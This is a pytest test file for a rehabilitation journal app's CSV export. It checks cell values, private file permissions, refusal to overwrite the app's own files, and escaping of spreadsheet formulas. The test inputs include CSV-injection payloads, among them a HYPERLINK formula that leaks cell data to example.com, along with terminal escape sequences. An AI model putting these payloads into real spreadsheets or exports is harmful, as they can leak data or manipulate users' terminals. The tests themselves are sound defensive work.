"""`sitbone export --format csv`: one file per kind, every cell checked, the columns a person
reads beside the stored ones, formulas kept as text, bad input, failures."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel

from cli.main import main
from journal.journal import Journal
from store import Home, Store
from store.records import (
    RECORD_TABLES,
    ExerciseSession,
    OutcomeMeasure,
    PainEntry,
    PhaseChange,
    Profile,
    RedFlagChange,
    RunSession,
)
from tests.conftest import NOW, PHYSIO_PLAN, TODAY, fixed_clock
from tests.hostile import hostile_text

ROOT = Path(__file__).resolve().parents[2]
PAIN_HEADER = [
    "id", "at", "context", "rest", "load_test", "activity", "stiffness_min", "sitting_min",
    "chair", "aggravators", "note", "bridge_left", "bridge_right", "walk_min", "for_clinician",
]  # fmt: skip
# The columns a person reads, after the stored ones, by file.
READABLE = {
    "pain": ["date", "time", "zone", "response", "verdict"],
    "exercise_sessions": ["date", "time", "exercise_name", "phase_name"],
    "runs": ["date", "time", "program_name", "outcome", "outcome_reason", "minutes"],
    "phase_history": ["date", "time", "from_phase_name", "to_phase_name", "kind"],
    "run_unlocks": ["date", "time", "phase_name"],
    "red_flag_history": ["date", "time", "raised_names", "cleared_names"],
    "outcomes": ["date", "time"],
}
# Where a spreadsheet starts a formula: written here, not imported, to check the module by.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def export(home: Home, *args: str, clock=fixed_clock) -> int:
    return main(["--home", str(home.root), "export", "--format", "csv", *args], clock)


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        return list(reader.fieldnames or []), rows


def expected_cell(value: Any) -> str:
    """What a model_dump(mode="json") value should look like in a CSV cell."""
    if value is None:
        return ""
    if value is True or value is False:
        return str(value).lower()
    if isinstance(value, list):
        return ";".join(value)
    return str(value)


def files_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def test_every_kind_gets_a_file_with_its_header(demo_home: Home, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out"
    assert export(demo_home, "--output", str(out)) == 0
    written = [str(out / f"{kind}.csv") for kind in RECORD_TABLES]
    assert capsys.readouterr().out.splitlines() == written
    assert files_in(out) == sorted(f"{kind}.csv" for kind in RECORD_TABLES)
    for kind, model in RECORD_TABLES.items():
        columns, _ = read_csv(out / f"{kind}.csv")
        stored = ["id", *(model.model_fields if model else [])]
        assert columns == [*stored, *READABLE.get(kind, [])], kind
    assert read_csv(out / "pain.csv")[0] == [*PAIN_HEADER, *READABLE["pain"]]
    assert read_csv(out / "outcomes.csv")[0] == [
        "id", "at", "kind", "score", "sitting_min", "chair", "note", "date", "time",
    ]  # fmt: skip
    assert len(read_csv(out / "pain.csv")[1]) == len(Store(demo_home).pain_entries())


def test_kinds_come_from_record_tables(
    demo_home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Sleep(BaseModel):
        night: date
        hours: float | None = None
        woke_sore: bool = False

    # A model added later needs no change to the export; an unbuilt one gets only `id`.
    monkeypatch.setitem(RECORD_TABLES, "sleep", Sleep)
    monkeypatch.setitem(RECORD_TABLES, "later", None)
    assert export(demo_home, "--output", str(tmp_path)) == 0
    with (tmp_path / "sleep.csv").open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == [["id", "night", "hours", "woke_sore"]]
    with (tmp_path / "later.csv").open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == [["id"]]


def test_pain_cells_exactly(home: Home, tmp_path: Path) -> None:
    def log(*args: str) -> None:
        assert main(["--home", str(home.root), "log", "pain", *args], fixed_clock) == 0

    note = 'ça, "fine"\nthen sore'
    log(
        "--rest", "2", "--load-test", "3", "--activity", "4", "--context", "after-run",
        "--stiffness-min", "15", "--sitting-min", "40", "--chair", "car",
        "--aggravator", "hills", "--aggravator", "sitting", "--bridge-left", "22",
        "--bridge-right", "18", "--walk-min", "30", "--note", note,
        "--date", "2026-11-20", "--time", "18:45",
    )  # fmt: skip
    log("--rest", "0", "--context", "morning", "--date", "2026-11-19", "--time", "07:00")
    assert export(home, "--output", str(tmp_path / "out")) == 0
    _, rows = read_csv(tmp_path / "out" / "pain.csv")
    blank = dict.fromkeys(PAIN_HEADER, "")
    # Oldest id first, so the later-logged but earlier-dated entry comes second.
    assert rows == [
        {
            "id": "1", "at": "2026-11-20T18:45:00", "context": "after-run", "rest": "2",
            "load_test": "3", "activity": "4", "stiffness_min": "15", "sitting_min": "40",
            "chair": "car", "aggravators": "hills;sitting", "note": note, "bridge_left": "22",
            "bridge_right": "18", "walk_min": "30", "for_clinician": "false",
            "date": "2026-11-20", "time": "18:45", "zone": "amber", "response": "",
            "verdict": "Pain during activity 4/10, amber: acceptable if it settles by "
            "tomorrow morning. A load test outside the morning is kept, but the gates and "
            "the 24-hour response read the morning check-in's.",
        },
        {
            **blank, "id": "2", "at": "2026-11-19T07:00:00", "context": "morning", "rest": "0",
            "for_clinician": "false", "date": "2026-11-19", "time": "07:00", "zone": "green",
            "response": "no baseline yet",
            "verdict": "Rest 0/10, green: no baseline yet (it comes from earlier morning "
            "check-ins); safe: carry on with your plan.",
        },
    ]  # fmt: skip


def pain_from_row(row: dict[str, str]) -> PainEntry:
    """Read a CSV row's stored columns back into an entry, as a script would: blank is 'not
    given', aggravators split on ';', the readable columns left out."""
    fields: dict[str, Any] = {}
    for name, value in row.items():
        if name == "id" or name in READABLE["pain"] or value == "":
            continue
        if name == "aggravators":
            fields[name] = tuple(value.split(";"))
        elif name == "for_clinician":
            fields[name] = value == "true"
        elif name in {"at", "context", "chair", "note"}:
            fields[name] = value
        else:
            fields[name] = int(value)
    return PainEntry.model_validate(fields, context={"today": TODAY})


def test_pain_rows_match_the_store_and_round_trip(demo_home: Home, tmp_path: Path) -> None:
    assert export(demo_home, "--output", str(tmp_path)) == 0
    _, rows = read_csv(tmp_path / "pain.csv")
    stored = dict(Store(demo_home).pain_entries())
    assert [int(row["id"]) for row in rows] == sorted(stored)
    assert any(row["aggravators"] for row in rows) and any(not row["note"] for row in rows)
    for row in rows:
        entry = stored[int(row["id"])]
        dumped = entry.model_dump(mode="json")
        stored_columns = {name: row[name] for name in PAIN_HEADER}
        assert stored_columns == {
            "id": row["id"],
            **{k: expected_cell(v) for k, v in dumped.items()},
        }
        assert pain_from_row(row) == entry


def test_profile_booleans_dates_and_lists(home: Home, tmp_path: Path) -> None:
    profile = Profile(
        injured_side="both", symptoms_began=date(2026, 9, 1), runs_now=True,
        red_flags=("night-pain", "weight-loss"), created=NOW, updated=datetime(2026, 11, 21, 10),
    )  # fmt: skip
    Store(home, fixed_clock).save_profile(profile)
    assert export(home, "--output", str(tmp_path)) == 0
    assert read_csv(tmp_path / "profile.csv")[1] == [
        {
            "id": "1", "injured_side": "both", "symptoms_began": "2026-09-01", "runs_now": "true",
            "red_flags": "night-pain;weight-loss", "created": "2026-11-21T09:30:00",
            "updated": "2026-11-21T10:00:00",
        }
    ]  # fmt: skip


def test_empty_home_exports_headers_and_creates_no_home(home: Home, tmp_path: Path) -> None:
    assert export(home, "--output", str(tmp_path / "out")) == 0
    for kind in RECORD_TABLES:
        assert read_csv(tmp_path / "out" / f"{kind}.csv")[1] == []
    assert not home.root.exists()


def test_default_folder_is_named_by_the_clock_date(
    demo_home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)

    def clock() -> datetime:
        return datetime(2031, 2, 3, 23, 59)  # not today, so the date must come from the clock

    assert export(demo_home, clock=clock) == 0
    folder = Path("sitbone-export-2031-02-03")
    written = [str(folder / f"{kind}.csv") for kind in RECORD_TABLES]
    assert capsys.readouterr().out.splitlines() == written
    first = (work / folder / "pain.csv").read_bytes()
    # A second export overwrites the same files and leaves no temporary files behind.
    assert export(demo_home, clock=clock) == 0
    assert files_in(work) == [folder.name]
    assert files_in(work / folder) == sorted(f"{kind}.csv" for kind in RECORD_TABLES)
    assert (work / folder / "pain.csv").read_bytes() == first


def test_output_that_is_a_file_exits_2_and_writes_nothing(
    demo_home: Home, tmp_path: Path, capsys
) -> None:
    target = tmp_path / "out.csv"
    target.write_text("keep me\n", encoding="utf-8")
    assert export(demo_home, "--output", str(target)) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.count("\n") == 1
    assert captured.err.startswith("sitbone: ") and "--output" in captured.err
    assert target.read_text(encoding="utf-8") == "keep me\n"
    assert files_in(tmp_path) == ["home", "out.csv"]


def test_real_process_creates_nested_folder(demo_home: Home, tmp_path: Path) -> None:
    out = tmp_path / "a" / "b"
    result = subprocess.run(
        [sys.executable, "-m", "tui", "export", "--format", "csv", "--output", str(out),
         "--home", str(demo_home.root)],
        cwd=ROOT, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    assert result.stdout.splitlines() == [str(out / f"{kind}.csv") for kind in RECORD_TABLES]
    _, rows = read_csv(out / "pain.csv")
    assert len(rows) == len(Store(demo_home).pain_entries())


def test_csv_export_does_not_import_textual(demo_home: Home, tmp_path: Path) -> None:
    code = (
        "import sys\nfrom cli.main import main\n"
        f"code = main(['--home', {str(demo_home.root)!r}, 'export', '--format', 'csv',"
        f" '--output', {str(tmp_path / 'out')!r}])\n"
        "assert code == 0\nprint('textual' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[-1] == "False"


def test_a_file_that_cannot_be_replaced_exits_1(demo_home: Home, tmp_path: Path, capsys) -> None:
    # A folder where pain.csv should go: the rename fails even for root.
    (tmp_path / "pain.csv").mkdir()
    assert export(demo_home, "--output", str(tmp_path)) == 1
    captured = capsys.readouterr()
    assert captured.out.splitlines() == [str(tmp_path / "profile.csv")]
    assert captured.err.count("\n") == 1
    assert captured.err.startswith("sitbone: ") and str(tmp_path / "pain.csv") in captured.err
    assert files_in(tmp_path) == ["home", "pain.csv", "profile.csv"]  # no temporary file left
    assert files_in(tmp_path / "pain.csv") == []


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root ignores file permissions"
)
def test_unwritable_folder_exits_1(demo_home: Home, tmp_path: Path, capsys) -> None:
    out = tmp_path / "locked"
    out.mkdir()
    out.chmod(0o500)
    try:
        assert export(demo_home, "--output", str(out)) == 1
        captured = capsys.readouterr()
        assert captured.out == ""
        assert captured.err.count("\n") == 1
        assert captured.err.startswith("sitbone: ") and str(out) in captured.err
        assert files_in(out) == []
    finally:
        out.chmod(0o700)


# -- never over sitbone's own files -------------------------------------------------------------


def export_json(home: Home, *args: str) -> int:
    return main(["--home", str(home.root), "export", "--format", "json", *args], fixed_clock)


def own_paths(home: Home) -> dict[str, Path]:
    home.backups_dir.mkdir(exist_ok=True)
    home.programs_dir.mkdir(exist_ok=True)
    backup = home.backups_dir / "sitbone-2026-11-20.json"
    backup.write_bytes(home.data_file.read_bytes())
    home.settings_file.write_text("run_sounds: true\n")
    return {
        "data file": home.data_file,
        "lock file": home.lock_file,
        "backups folder": home.backups_dir,
        "a backup": backup,
        "a new file in backups": home.backups_dir / "new.json",
        "settings": home.settings_file,
        "programs folder": home.programs_dir,
        "a program": home.programs_dir / "mine.yaml",
        "a kept file": home.root / "sitbone.json.replaced-20261121-090000",
    }


def snapshot(home: Home) -> dict[str, bytes]:
    return {
        str(path.relative_to(home.root)): path.read_bytes()
        for path in sorted(home.root.rglob("*"))
        if path.is_file()
    }


def test_json_export_refuses_sitbones_own_files(demo_home: Home, tmp_path: Path, capsys) -> None:
    for what, path in own_paths(demo_home).items():
        before = snapshot(demo_home)
        assert export_json(demo_home, "--output", str(path)) == 2, what
        captured = capsys.readouterr()
        assert captured.out == ""
        assert captured.err.count("\n") == 1, what
        assert captured.err.startswith(f"sitbone: argument --output: '{path}' is "), what
        assert snapshot(demo_home) == before, what


def test_own_files_are_caught_through_links_and_relative_paths(
    demo_home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    link = tmp_path / "innocent.json"
    link.symlink_to(demo_home.data_file)
    folder_link = tmp_path / "looks-elsewhere"
    folder_link.symlink_to(demo_home.root)
    demo_home.backups_dir.mkdir(exist_ok=True)
    monkeypatch.chdir(demo_home.backups_dir)
    before = snapshot(demo_home)
    for target in (str(link), str(folder_link / "sitbone.json"), "../sitbone.json", "."):
        assert export_json(demo_home, "--output", target) == 2, target
        assert "sitbone's" in capsys.readouterr().err
    assert snapshot(demo_home) == before
    assert link.is_symlink()


def test_csv_export_refuses_the_home_and_folders_inside_it(
    demo_home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    link = tmp_path / "link"
    link.symlink_to(demo_home.root)
    for target in (demo_home.root, demo_home.root / "exports", demo_home.backups_dir, link):
        assert export(demo_home, "--output", str(target)) == 2, target
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "sitbone's" in err
    # The default folder, made in the current folder, when that is the home.
    monkeypatch.chdir(demo_home.root)
    assert export(demo_home) == 2
    assert "inside sitbone's home folder" in capsys.readouterr().err
    assert not (demo_home.root / "exports").exists()
    assert not list(demo_home.root.glob("sitbone-export-*"))


# -- spreadsheet formulas ------------------------------------------------------------------------


def test_text_that_would_run_as_a_formula_is_escaped(home: Home, tmp_path: Path) -> None:
    notes = ['=HYPERLINK("http://x")', "+1", "-3 after the hill", "@SUM(A1)", "\tx", "\rx"]
    store = Store(home, fixed_clock)
    store.add_many("pain", [PainEntry(at=NOW, rest=2, note=note) for note in notes])
    store.add_pain(PainEntry(at=NOW, rest=0, note="fine = good"))
    assert export(home, "--output", str(tmp_path / "out")) == 0
    _, rows = read_csv(tmp_path / "out" / "pain.csv")
    assert [row["note"] for row in rows] == [f"'{note}" for note in notes] + ["fine = good"]
    # Numbers sitbone wrote stay numbers.
    assert [row["rest"] for row in rows] == ["2"] * len(notes) + ["0"]


def test_cell_escapes_text_only() -> None:
    from journal.export_csv import cell

    assert cell("=1+1") == "'=1+1"
    assert cell(-3) == "-3" and cell(-2.5) == "-2.5"
    assert cell(["-a", "b"]) == "'-a;b"
    assert cell("2026-11-21T09:30:00") == "2026-11-21T09:30:00"


HOSTILE_NOTES = (
    '=HYPERLINK("http://example.com/?leak="&A1,"details")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "=\x1b]2;owned\x07",  # a formula holding terminal escapes
    "-\x00\x9b31m",  # NUL and a one-byte CSI after a minus
    "@\n=1+1",  # a line break, then another formula
)


def written_notes(home: Home, notes: tuple[str, ...], out: Path) -> dict[str, list[str]]:
    """Store each note on a pain entry, a session, a run and an outcome measure (as older data
    or another program might, past the command line's checks), export, and read the notes
    back by file with Python's csv reader."""
    store = Store(home, fixed_clock)
    store.add_many("pain", [PainEntry(at=NOW, rest=2, note=note) for note in notes])
    store.add_many(
        "exercise_sessions",
        [
            ExerciseSession(at=NOW, exercise="isometric-bridge-hold", phase=1, sets=5, note=n)
            for n in notes
        ],
    )
    store.add_many(
        "runs",
        [
            RunSession(at=NOW, program="sitbone", stage=1, completed=True, seconds_done=60, note=n)
            for n in notes
        ],
    )
    store.add_many(
        "outcomes",
        [OutcomeMeasure(at=NOW, kind="visa-h", score=50, note=note) for note in notes],
    )
    assert export(home, "--output", str(out)) == 0
    return {
        kind: [row["note"] for row in read_csv(out / f"{kind}.csv")[1]]
        for kind in ("pain", "exercise_sessions", "runs", "outcomes")
    }


def test_hostile_notes_come_back_as_text(home: Home, tmp_path: Path) -> None:
    quiet = ("\x1b[2J\x1b[H", "fine = good", "'already quoted")
    for kind, notes in written_notes(home, HOSTILE_NOTES + quiet, tmp_path / "out").items():
        assert notes == [f"'{note}" for note in HOSTILE_NOTES] + list(quiet), kind


@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    note=st.one_of(
        hostile_text,
        st.tuples(st.sampled_from([*FORMULA_STARTS, "'", " ", "\n"]), hostile_text).map("".join),
        st.text(max_size=200),
    )
)
def test_any_note_comes_back_with_at_most_a_quote_added(
    tmp_path_factory: pytest.TempPathFactory, note: str
) -> None:
    folder = tmp_path_factory.mktemp("note")
    written = written_notes(Home(folder / "home"), (note,), folder / "out")
    for kind, [cell] in written.items():
        assert cell in (note, f"'{note}"), kind
        assert cell == (f"'{note}" if note.startswith(FORMULA_STARTS) else note), kind
        assert not cell.startswith(FORMULA_STARTS), kind


# -- private folders and files ---------------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_the_export_folder_is_private_whatever_the_umask(
    demo_home: Home, tmp_path: Path, umask: int
) -> None:
    out = tmp_path / "new" / "export"
    old = os.umask(umask)
    try:
        assert export(demo_home, "--output", str(out)) == 0
    finally:
        os.umask(old)
    assert (out.stat().st_mode & 0o777) == 0o700
    assert (out.parent.stat().st_mode & 0o777) == 0o700
    assert {path.stat().st_mode & 0o777 for path in out.iterdir()} == {0o600}


def test_an_export_folder_that_refuses_files_exits_1_with_one_line(
    demo_home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    # What a folder without write permission does, also when the tests run as root.
    import tempfile

    def refuse(*args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    out = tmp_path / "locked"
    out.mkdir()
    assert export(demo_home, "--output", str(out)) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == (
        f"sitbone: {out / 'profile.csv'}: permission denied; it was not written\n"
    )
    assert files_in(out) == []


def test_a_json_export_that_cannot_be_written_exits_1_with_one_line(
    demo_home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    import store.storage

    def full(*args: object) -> None:
        raise OSError(28, "No space left on device")

    target = tmp_path / "export.json"
    monkeypatch.setattr(store.storage.os, "write", full)
    assert export_json(demo_home, "--output", str(target)) == 1
    monkeypatch.undo()
    err = capsys.readouterr().err
    assert err == f"sitbone: {target}: the disk is full; nothing was written\n"
    assert not target.exists() and files_in(tmp_path) == ["home"]


# -- the columns a person reads ----------------------------------------------------------------


def rows_by_id(path: Path) -> dict[int, dict[str, str]]:
    return {int(row["id"]): row for row in read_csv(path)[1]}


def test_readable_columns_on_the_demo_home(demo_home: Home, tmp_path: Path) -> None:
    assert export(demo_home, "--output", str(tmp_path)) == 0
    journal = Journal.open(demo_home, fixed_clock)
    library = journal.library

    # Pain: the zone, response and verdict the app gives, by the same rules.
    pain = rows_by_id(tmp_path / "pain.csv")
    pairs = journal.pain_entries()
    assert sorted(pain) == sorted(record_id for record_id, _ in pairs)
    for (record_id, entry), judged in zip(
        pairs, journal.judge_all([entry for _, entry in pairs]), strict=True
    ):
        row = pain[record_id]
        assert (row["date"], row["time"]) == (entry.at.date().isoformat(), f"{entry.at:%H:%M}")
        assert row["zone"] == judged.zone.colour
        assert row["response"] == (judged.response.value if judged.response else "")
        assert row["verdict"] == judged.line
    assert {row["zone"] for row in pain.values()} >= {"green", "amber"}
    assert {row["response"] for row in pain.values()} >= {"", "settled", "no baseline yet"}

    sessions = rows_by_id(tmp_path / "exercise_sessions.csv")
    assert sessions
    for row in sessions.values():
        exercise = library.exercise(row["exercise"])
        assert exercise is not None and row["exercise_name"] == exercise.name
        assert row["phase_name"] == library.phase(int(row["phase"])).name

    # Runs: the outcome and its reason as the Run screen shows them.
    runs = rows_by_id(tmp_path / "runs.csv")
    state = journal.running("sitbone")
    assert sorted(runs) == sorted(state.verdicts)
    for record_id, run in state.runs:
        row, verdict = runs[record_id], state.verdicts[record_id]
        assert (row["outcome"], row["outcome_reason"]) == (verdict.outcome.label, verdict.reason)
        assert row["program_name"] == state.program.name
        assert float(row["minutes"]) == round(run.seconds_done / 60, 1)
    assert {row["outcome"] for row in runs.values()} >= {"pass", "repeat"}

    changes = rows_by_id(tmp_path / "phase_history.csv")
    assert [row["kind"] for row in changes.values()] == ["advance"] * len(changes)
    for row in changes.values():
        assert row["from_phase_name"] == library.phase(int(row["from_phase"])).name
        assert row["to_phase_name"] == library.phase(int(row["to_phase"])).name

    nerve = "Tingling or pain down the leg, back pain"
    flags = list(rows_by_id(tmp_path / "red_flag_history.csv").values())
    assert [(row["raised_names"], row["cleared_names"]) for row in flags[:2]] == [
        (nerve, ""),
        ("", nerve),
    ]
    [unlock] = rows_by_id(tmp_path / "run_unlocks.csv").values()
    assert unlock["phase_name"] == library.phase(int(unlock["phase"])).name


def test_phase_changes_name_their_kind(profiled_home: Home, tmp_path: Path) -> None:
    store = Store(profiled_home, fixed_clock)
    store.add_many(
        "phase_history",
        [
            PhaseChange(
                at=datetime(2026, 10, 1, 20), from_phase=1, to_phase=2, reason="gate passed"
            ),
            PhaseChange(
                at=datetime(2026, 10, 20, 20), from_phase=2, to_phase=3,
                reason="my physio cleared me", overridden=True,
            ),
            PhaseChange(at=datetime(2026, 11, 2, 8, 5), from_phase=3, to_phase=2, reason="sore"),
        ],
    )  # fmt: skip
    assert export(profiled_home, "--output", str(tmp_path / "out")) == 0
    _, rows = read_csv(tmp_path / "out" / "phase_history.csv")
    names = {phase.number: phase.name for phase in Journal.open(profiled_home).library.phases}
    assert [
        (row["date"], row["time"], row["from_phase_name"], row["to_phase_name"], row["kind"])
        for row in rows
    ] == [
        ("2026-10-01", "20:00", names[1], names[2], "advance"),
        ("2026-10-20", "20:00", names[2], names[3], "override"),
        ("2026-11-02", "08:05", names[3], names[2], "step back"),
    ]
    # The stored columns are unchanged.
    assert [(row["overridden"], row["reason"]) for row in rows] == [
        ("false", "gate passed"),
        ("true", "my physio cleared me"),
        ("false", "sore"),
    ]


def test_outcome_measures_get_their_own_file(home: Home, tmp_path: Path) -> None:
    store = Store(home, fixed_clock)
    store.add_many(
        "outcomes",
        [
            OutcomeMeasure(at=datetime(2026, 11, 1, 9), kind="visa-h", score=62),
            OutcomeMeasure(
                at=datetime(2026, 11, 8, 19, 30), kind="sitting", sitting_min=25, chair="car",
                note="-stopped at the services",
            ),
        ],
    )  # fmt: skip
    assert export(home, "--output", str(tmp_path / "out")) == 0
    assert read_csv(tmp_path / "out" / "outcomes.csv")[1] == [
        {
            "id": "1", "at": "2026-11-01T09:00:00", "kind": "visa-h", "score": "62",
            "sitting_min": "", "chair": "", "note": "", "date": "2026-11-01", "time": "09:00",
        },
        {
            "id": "2", "at": "2026-11-08T19:30:00", "kind": "sitting", "score": "",
            "sitting_min": "25", "chair": "car", "note": "'-stopped at the services",
            "date": "2026-11-08", "time": "19:30",
        },
    ]  # fmt: skip


def test_for_clinician_is_a_column_of_pain_sessions_and_runs(home: Home, tmp_path: Path) -> None:
    store = Store(home, fixed_clock)
    at = datetime(2026, 11, 20, 8)
    store.add_many("pain", [PainEntry(at=at, rest=1), PainEntry(at=at, rest=2, for_clinician=True)])
    store.add_many(
        "exercise_sessions",
        [
            ExerciseSession(at=at, exercise="isometric-bridge-hold", phase=1, sets=5, hold_s=30),
            ExerciseSession(
                at=at, exercise="isometric-bridge-hold", phase=1, sets=5, hold_s=30,
                for_clinician=True,
            ),
        ],
    )  # fmt: skip
    store.add_many(
        "runs",
        [
            RunSession(at=at, program="sitbone", stage=1, completed=True, seconds_done=2045),
            RunSession(
                at=at, program="sitbone", stage=1, completed=True, seconds_done=1680,
                for_clinician=True,
            ),
        ],
    )  # fmt: skip
    assert export(home, "--output", str(tmp_path / "out")) == 0
    for kind in ("pain", "exercise_sessions", "runs"):
        _, rows = read_csv(tmp_path / "out" / f"{kind}.csv")
        assert [row["for_clinician"] for row in rows] == ["false", "true"], kind
    _, runs = read_csv(tmp_path / "out" / "runs.csv")
    assert [row["minutes"] for row in runs] == ["34.1", "28"]


def test_red_flags_are_named_and_a_dropped_flag_keeps_its_id(home: Home, tmp_path: Path) -> None:
    store = Store(home, fixed_clock)
    store.add_many(
        "red_flag_history",
        [
            RedFlagChange(at=datetime(2026, 11, 1, 8), raised=("avulsion", "gone-flag")),
            RedFlagChange(
                at=datetime(2026, 11, 3, 8), cleared=("avulsion", "gone-flag"), reason="seen"
            ),
        ],
    )
    assert export(home, "--output", str(tmp_path / "out")) == 0
    _, rows = read_csv(tmp_path / "out" / "red_flag_history.csv")
    names = "A sudden pop: possible torn tendon;gone-flag"
    assert [(row["raised"], row["raised_names"], row["cleared_names"]) for row in rows] == [
        ("avulsion;gone-flag", names, ""),
        ("", "", names),
    ]


def test_runs_of_a_persons_program_and_of_a_removed_one(
    profiled_home: Home, tmp_path: Path
) -> None:
    # A name from a file the person wrote is text like a note: it cannot start a formula.
    profiled_home.programs_dir.mkdir(exist_ok=True)
    plan = profiled_home.programs_dir / "physio.yaml"
    plan.write_text(PHYSIO_PLAN.replace("My physio's plan", "'@plan'"), encoding="utf-8")
    store = Store(profiled_home, fixed_clock)
    at = datetime(2026, 11, 20, 17)
    store.add_many(
        "runs",
        [
            RunSession(at=at, program="physio-plan", stage=1, completed=True, seconds_done=1200),
            RunSession(at=at, program="gone-plan", stage=1, completed=True, seconds_done=600),
        ],
    )
    assert export(profiled_home, "--output", str(tmp_path / "out")) == 0
    _, rows = read_csv(tmp_path / "out" / "runs.csv")
    state = Journal.open(profiled_home, fixed_clock).running("physio-plan")
    [(record_id, _)] = state.runs
    verdict = state.verdicts[record_id]
    assert [
        (row["program_name"], row["outcome"], row["outcome_reason"], row["minutes"]) for row in rows
    ] == [
        ("'@plan", verdict.outcome.label, verdict.reason, "20"),
        # No stages left to judge it by: no outcome, rather than one from another program.
        ("", "", "", "10"),
    ]
